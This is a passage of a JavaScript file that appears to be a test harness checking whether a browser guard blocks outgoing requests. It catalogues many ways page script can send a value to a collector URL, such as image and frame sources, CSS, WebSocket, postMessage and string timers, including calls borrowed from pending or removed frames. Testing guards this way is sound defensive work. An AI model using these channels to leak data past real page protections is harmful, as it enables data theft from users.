    'fetchLater': ({ fetchLater }) => () => { fetchLater.call(window, collector(), { method: 'POST', body: value, activateAfter: 0 }); },
    'click()': ({ HTMLElement: { prototype: { click } } }) => () => { click.call(link(document, { target: '_blank' })); },
    'dispatchEvent': ({ EventTarget: { prototype: { dispatchEvent } } }) => () => {
      dispatchEvent.call(link(document, { target: '_blank' }), new MouseEvent('click', { bubbles: true, cancelable: true }));
    },
    'submit()': ({ HTMLFormElement: { prototype: { submit } } }) => () => { submit.call(form(document, { target: '_blank' })); },
    'requestSubmit()': ({ HTMLFormElement: { prototype: { requestSubmit } } }) => () => { requestSubmit.call(form(document, { target: '_blank' })); },
    'open()': ({ open }) => () => { opened.push(open.call(window, withValue())); },
    'location': (realm) => { const { set } = Object.getOwnPropertyDescriptor(realm, 'location'); return () => { set.call(window, withValue()); }; },
    'src of an image': ({ HTMLImageElement: { prototype } }) => () => { Object.getOwnPropertyDescriptor(prototype, 'src').set.call(new Image(), withValue()); },
    'src of a frame': ({ HTMLIFrameElement: { prototype } }) => () => { Object.getOwnPropertyDescriptor(prototype, 'src').set.call(frame(), withValue()); },
    'setAttribute': ({ Element: { prototype: { setAttribute } } }) => () => { setAttribute.call(new Image(), 'src', withValue()); },
    'an attribute\'s value': ({ Attr: { prototype } }) => () => {
      const image = new Image();
      image.setAttribute('src', '');
      Object.getOwnPropertyDescriptor(prototype, 'value').set.call(image.getAttributeNode('src'), withValue());
    },
    'innerHTML': ({ Element: { prototype } }) => () => { Object.getOwnPropertyDescriptor(prototype, 'innerHTML').set.call(box(), `<img src="${withValue()}">`); },
    'insertAdjacentHTML': ({ Element: { prototype: { insertAdjacentHTML } } }) => () => { insertAdjacentHTML.call(box(), 'beforeend', `<img src="${withValue()}">`); },
    'document.write': ({ Document: { prototype: { write } } }) => () => { write.call(document, `<img src="${withValue()}">`); },
    'append': ({ Element: { prototype: { append } } }) => () => { append.call(document.body, Object.assign(new DOMParser().parseFromString(`<iframe src="${withValue()}">`, 'text/html').body.firstChild)); },
    'a style': ({ CSSStyleDeclaration: { prototype: { setProperty } } }) => () => { const each = box(); each.append('text'); setProperty.call(each.style, 'background-image', `url("${withValue()}")`); each.getBoundingClientRect(); },
    'insertRule': ({ CSSStyleSheet: { prototype: { insertRule } } }) => () => {
      const sheet = put(made('style')).sheet;
      insertRule.call(sheet, `body { background-image: url("${withValue()}") }`);
      document.body.getBoundingClientRect();
    },
    'postMessage': ({ postMessage }) => async () => {
      const other = frame({ src: `${to}/listen` });
      await loaded(other);
      postMessage.call(other.contentWindow, value, '*');
      await soon(200);
    },
    'WebSocket.send': ({ WebSocket: { prototype: { send } } }) => async () => {
      const socket = new WebSocket(collector().replace('http', 'ws'));
      await new Promise((done) => { socket.onopen = socket.onerror = done; });
      send.call(socket, value);
      await soon(100);
    },
    'EventSource': ({ EventSource }) => () => { new EventSource(withValue()); },
    'setTimeout of a text': ({ setTimeout }) => async () => {
      setTimeout.call(window, `fetch(${JSON.stringify(collector())}, { method: 'POST', body: ${JSON.stringify(value)} }).catch(() => {})`);
      await soon(200);
    },
  };

  const each = (group, entries, make) =>
    Object.fromEntries(Object.entries(entries).map(([name, body]) => [`${group}: ${name}`, () => make(body)]));
  const atOnce = (body) => { const realm = body(); return typeof realm?.then === 'function' ? realm.then(fetched) : fetched(realm); };

  const all = {
    ...each('frame', forms, atOnce),
    ...each('window', windows, atOnce),
    ...each('inserted by', insertions, (body) => { body(); return fetched(last()); }),
    ...each('amid', amid, async (body) => { await body(); await Promise.all(ends); }),
    ...each('reached by', reaches, atOnce),
    ...each('of a pending frame', own, (body) => body(frame({ src: SLOW }).contentWindow)),
    ...each('of an empty frame', own, (body) => body(frame().contentWindow)),
    ...each('of a pending frame, on the page', onThePage, (body) => body(frame({ src: SLOW }).contentWindow)()),
    ...each('of a frame that is gone, on the page', onThePage, (body) => {
      const gone = frame();
      const use = body(gone.contentWindow);
      gone.remove();
      return use();
    }),
    ...each('of a pending frame that is gone, on the page', onThePage, (body) => {
      const gone = frame({ src: SLOW });
      const use = body(gone.contentWindow);
      gone.remove();
      return use();
    }),
  };

  return {
    all,
    now,
    /** For the pages that are served: the value, where to, and what has ended. */
    begin(itsValue, itsTo) { value = itsValue; to = itsTo; },
    end: () => Promise.all(ends),
    /**
     * Gives whether the end of it is known.
     * @param {string} name @param {string} itsValue @param {string} itsTo
     */
    async run(name, itsValue, itsTo) {
      value = itsValue;
      to = itsTo;
      try {
        const tried = all[name]();
        if (typeof tried?.then !== 'function') return false;
        // In Firefox a promise of a frame that is gone may never tell.
        return await Promise.race([tried.then(() => true), soon(5000).then(() => false)]);
      } catch {
        // A guard may well leave nothing there that could be called.
        return false;
      }
    },
    close() { for (const each of opened) each?.close(); },
  };
})();
